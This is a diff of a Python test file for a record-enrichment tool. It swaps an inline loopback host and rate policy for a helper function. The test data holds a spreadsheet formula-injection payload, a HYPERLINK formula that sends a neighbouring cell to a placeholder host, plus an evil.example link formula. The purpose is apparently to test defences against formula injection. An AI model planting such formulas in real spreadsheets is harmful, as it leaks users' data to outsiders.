@@ -20,7 +20,7 @@ from skiptrace.connectors._runner import ConnectorResult
 from skiptrace.demo.enrich import MANIFEST as DEMO_MANIFEST
 from skiptrace.records import Address, Provenance, SourceRecord, Status
 from skiptrace.research.findings import output_row
-from skiptrace.testing.replay import ReplayServer, Reply
+from skiptrace.testing.replay import ReplayServer, Reply, loopback_policy_file
 
 LEAK = '=HYPERLINK("http://x/?leak="&A2,"click")'
 """A cell that, opened in a spreadsheet, sends the row's neighbour to a stranger."""
@@ -38,18 +38,6 @@ MANIFEST = (
     .rstrip()
     + '\n[fields.employer_address]\nlines = "[office]"\ncity = "city"\nregion = "state"\n'
 )
-POLICY = """
-[hosts]
-allow_private = ["{endpoint}"]
-[rate.hosts]
-"127.0.0.1" = "2000/s"
-[[override]]
-key = "rate.hosts"
-reason = "tests replay a directory on loopback"
-[[override]]
-key = "hosts.allow_private"
-reason = "tests replay a directory on loopback"
-"""
 INPUT_FORMULAS = ["=1+2", '=HYPERLINK("http://evil.example/","x")', "@SUM(A1:A9)"]
 """The user's own cells: written back exactly as they were read."""
 
@@ -75,9 +63,7 @@ def folders(tmp_path: Path) -> Iterator[tuple[Path, Path]]:
         connectors.mkdir()
         manifest = MANIFEST.format(base=server.base_url)
         (connectors / "people_directory.toml").write_text(manifest, encoding="utf-8")
-        policy = tmp_path / "fast.toml"
-        policy.write_text(POLICY.replace("{endpoint}", server.endpoint), encoding="utf-8")
-        yield connectors, policy
+        yield connectors, loopback_policy_file(tmp_path / "fast.toml", server)
 
 
 def _enrich(connectors: Path, policy: Path, source: Path, target: Path) -> list[dict[str, str]]:
